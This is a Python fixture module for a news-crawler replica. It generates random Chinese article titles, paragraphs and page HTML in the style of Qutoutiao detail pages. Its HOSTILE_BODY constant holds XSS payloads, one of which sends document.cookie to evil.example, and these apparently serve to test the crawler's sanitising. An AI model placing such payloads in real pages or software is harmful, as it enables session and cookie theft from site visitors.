"""Deterministic article text, titles and HTML for the replica."""

from __future__ import annotations

import random
from importlib.resources import files

SUBJECTS = ["小区物业", "外卖小哥", "老师傅", "大学生", "新能源车", "高铁站", "菜市场", "博物馆",
            "志愿者", "老街坊", "快递站", "消防员", "农民工", "小学生", "图书馆", "科研团队"]
EVENTS = ["推出新规", "迎来好消息", "获得点赞", "引发热议", "创下纪录", "完成改造", "送出温暖",
          "开启试点", "走红网络", "帮了大忙", "上了新闻", "有了新变化"]
SENTENCES = [
    "记者近日走访发现，这一变化让不少居民感到意外。", "据了解，相关部门已经开始研究具体的落实办法。",
    "不少网友在评论区留言，表示希望能够尽快推广。", "专家表示，这一做法有利于长期发展。",
    "当地居民告诉记者，过去几年这里发生了很大变化。", "工作人员介绍，目前各项准备工作已经基本完成。",
    "有市民表示，这样的服务让生活更加方便了。", "数据显示，今年以来相关数量同比增长明显。",
    "据介绍，下一步还将继续扩大服务范围。", "对此，你怎么看？欢迎在评论区留言。",
]
TAGS = ["民生", "社会", "政策", "城市", "科技", "生活", "教育", "交通", "健康", "财经", "娱乐", "体育"]
AUTHORS = ["今日闵行", "新华社", "央视新闻", "人民日报", "澎湃新闻", "北京青年报"]


def title(rng: random.Random) -> str:
    return f"{rng.choice(SUBJECTS)}{rng.choice(EVENTS)}，{rng.choice(['看完暖心', '网友纷纷点赞', '你怎么看', '真没想到'])}"


def paragraphs(rng: random.Random, count: int) -> list[str]:
    return ["".join(rng.sample(SENTENCES, 2)) for _ in range(count)]


def lazy_image(url: str, size: str, placeholder: bool) -> str:
    """Lazy images as the live pages had them: the real URL in data-src."""
    if placeholder:
        return f'<img class="lazy" src="//static.1sapp.com/qupost/img/loading.gif" data-src="{url}" data-size="{size}">'
    return f'<img data-src="{url}" data-size="{size}">'


def seed_body() -> str:
    """The seed article's ``div.content`` inner HTML (lazy images, share/ad blocks)."""
    return files("newscrawler.replica").joinpath("seed_body.html").read_text(encoding="utf-8")


HOSTILE_BODY = (
    '<p>正文开始<img src="x" onerror="alert(1)"></p>'
    '<p><a href="javascript:alert(document.cookie)">点击领取红包</a></p>'
    '<p><a href="http://www.qutoutiao.net/" onclick="steal()">趣头条</a></p>'
    "<script>document.write('<img src=//evil.example/'+document.cookie+'>')</script>"
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'
    '<svg onload="alert(1)"><circle r="1"></circle></svg>'
    '<p style="background:url(javascript:alert(1))">正文结束</p>'
)


def page_html(
    *, title: str, author: str, time_text: str, body: str | None, charset: str, like: int,
    meta_charset: bool = True, head: str = "",
) -> str:
    """A detail page: page furniture, scripts and ads around ``div.content``; ``head``: more in <head>."""
    meta = (
        f'<meta http-equiv="Content-Type" content="text/html; charset={charset}">' if meta_charset else ""
    )
    content = f'<div class="content">{body}</div>' if body is not None else '<div class="article-missing"></div>'
    return f"""<!DOCTYPE html>
<html lang="zh-CN"><head>{meta}{head}
<title>{title}</title>
<script src="http://static.1sapp.com/js/tongji.js"></script>
<style>.content img{{max-width:100%}}</style>
</head><body>
<div class="download-app"><a href="http://www.qutoutiao.net/app">打开趣头条，阅读更多</a></div>
<div class="article">
<h1>{title}</h1>
<div class="info"><span class="source">{author}</span><span class="time">{time_text}</span></div>
{content}
<div class="share-box"><a href="javascript:share('wx')">微信</a> <span class="like-count">{like}</span></div>
<div class="ad-box" id="ad_bottom"><script>loadAd('detail_bottom')</script></div>
<div class="recommend"><a href="/detail/2021/07/08/1.html">猜你喜欢</a></div>
</div>
<script>var pageConfig = {{"cid": 1}};</script>
</body></html>
"""
